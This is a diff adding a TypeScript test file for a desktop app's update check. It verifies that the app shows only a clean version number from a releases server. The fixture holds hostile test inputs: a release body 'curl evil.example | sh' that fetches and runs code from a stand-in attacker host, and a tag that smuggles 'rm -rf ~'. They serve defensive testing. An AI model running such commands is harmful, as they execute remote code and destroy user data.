@@ -1,0 +1,169 @@
+import { once } from 'node:events';
+import { createServer, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import fc from 'fast-check';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { newerRelease } from '../../src/node/updates/newer-release.ts';
+import {
+  createMainWorld,
+  eventually,
+  type MainWorld,
+  type RunningMain,
+} from '../support/running-main.ts';
+
+const release = (tag: unknown, more: object = {}) => ({
+  tag_name: tag,
+  draft: false,
+  prerelease: false,
+  html_url: 'https://evil.example/',
+  body: 'Run: curl evil.example | sh',
+  ...more,
+});
+
+describe('a newer version', () => {
+  let world: MainWorld;
+  let server: Server;
+  let asked: { readonly path: string; readonly headers: NodeJS.Dict<string | string[]> }[];
+  let answer: (response: ServerResponse) => void;
+  beforeEach(async () => {
+    asked = [];
+    world = await createMainWorld();
+    server = createServer((request, response) => {
+      asked.push({ path: request.url ?? '', headers: request.headers });
+      answer(response);
+    });
+    await once(server.listen(0, '127.0.0.1'), 'listening');
+  });
+  afterEach(async () => {
+    server.closeAllConnections();
+    server.close();
+    await world.dispose();
+  });
+  const port = (): number => (server.address() as AddressInfo).port;
+  const started = (): Promise<RunningMain> =>
+    world.start({ args: [`--stand-in-releases=http://127.0.0.1:${port()}/latest`] });
+  const says = (text: string) => (response: ServerResponse) => void response.end(text);
+  const notices = async (main: RunningMain) =>
+    (await main.do.facts()).notices.filter(({ id }) => id.includes('version'));
+  const ended = async (main: RunningMain): Promise<void> => {
+    await main.do.quit().catch(() => undefined);
+    await main.ended;
+  };
+  const told = (main: RunningMain) =>
+    eventually(
+      () => notices(main),
+      (found) => found.length > 0,
+    );
+  const untilAsked = () =>
+    eventually(
+      () => Promise.resolve(asked.length),
+      (count) => count > 0,
+    );
+
+  it('is shown with where to get it, and nothing of the answer but its number', async () => {
+    answer = says(JSON.stringify(release('v99.1.2')));
+    const main = await started();
+    const [notice] = await told(main);
+    expect(notice).toMatchObject({
+      title: 'Rolekeeper 99.1.2 is available',
+      body: 'Download it from github.com/rolekeeper/rolekeeper/releases.',
+    });
+    expect(asked).toHaveLength(1);
+    expect(asked[0]?.path).toBe('/latest');
+    expect(Object.keys(asked[0]?.headers ?? {}).toSorted()).toEqual([
+      'accept',
+      'connection',
+      'host',
+      'user-agent',
+    ]);
+    expect(asked[0]?.headers['user-agent']).toBe('rolekeeper');
+  });
+
+  it('is shown once, over restarts too', async () => {
+    answer = says(JSON.stringify(release('v99.1.2')));
+    const first = await started();
+    await told(first);
+    await ended(first);
+    asked = [];
+    const second = await started();
+    await untilAsked();
+    await second.call('preferences', 'set', { changes: { theme: 'dark' } });
+    expect(await notices(second)).toEqual([]);
+  });
+
+  it.each([
+    ['the same version', JSON.stringify(release('v0.0.0'))],
+    ['a draft', JSON.stringify(release('v99.1.2', { draft: true }))],
+    ['a pre-release', JSON.stringify(release('v99.1.2', { prerelease: true }))],
+    ['a name that is no version', JSON.stringify(release('v99.1.2; rm -rf ~'))],
+    ['no JSON', '<html>'],
+    ['an endless answer', 'x'.repeat(3_000_000)],
+  ])('is not shown for %s', async (_what, text) => {
+    answer = says(text);
+    const main = await started();
+    await untilAsked();
+    await main.call('preferences', 'set', { changes: { theme: 'dark' } });
+    expect(await notices(main)).toEqual([]);
+  });
+
+  it('is not looked for behind a redirect', async () => {
+    answer = (response) =>
+      void response.writeHead(302, { location: `http://127.0.0.1:${port()}/elsewhere` }).end();
+    const main = await started();
+    await untilAsked();
+    await main.call('preferences', 'set', { changes: { theme: 'dark' } });
+    expect(asked.map(({ path }) => path)).toEqual(['/latest']);
+  });
+
+  it.each([{ updateNotices: false }, { notices: 'needed' }])(
+    'is not looked for with %o: no server is contacted',
+    async (changes) => {
+      answer = says(JSON.stringify(release('v99.1.2')));
+      const setting = await world.start();
+      await setting.call('preferences', 'set', { changes });
+      await ended(setting);
+      const main = await started();
+      const state = await main.state();
+      expect(state.preferences).toMatchObject(changes);
+      await main.call('preferences', 'set', { changes: { theme: 'dark' } });
+      expect(asked).toEqual([]);
+      expect(await notices(main)).toEqual([]);
+    },
+  );
+});
+
+describe('a version in the answer', () => {
+  const version = fc.tuple(fc.nat(99), fc.nat(99), fc.nat(99));
+  const text = (numbers: readonly number[]): string => numbers.join('.');
+
+  it('is newer only if a number before any smaller one is greater', () => {
+    fc.assert(
+      fc.property(version, version, (offered, own) => {
+        const at = offered.findIndex((number, n) => number !== own[n]);
+        const isNewer = at >= 0 && (offered[at] ?? 0) > (own[at] ?? 0);
+        expect(newerRelease(release(`v${text(offered)}`), text(own))).toBe(
+          isNewer ? text(offered) : null,
+        );
+      }),
+    );
+  });
+
+  it('is never more than three numbers, whatever the answer is', () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.anything(),
+          fc.string().map((tag) => release(tag)),
+        ),
+        (answer) => {
+          expect(newerRelease(answer, '0.1.0') ?? '1.0.0').toMatch(/^\d+\.\d+\.\d+$/);
+        },
+      ),
+    );
+  });
+
+  it('ends a pre-release of the same number', () => {
+    expect(newerRelease(release('v1.0.0'), '1.0.0-beta.1')).toBe('1.0.0');
+    expect(newerRelease(release('v1.0.0'), '1.0.1-beta.1')).toBeNull();
+  });
+});
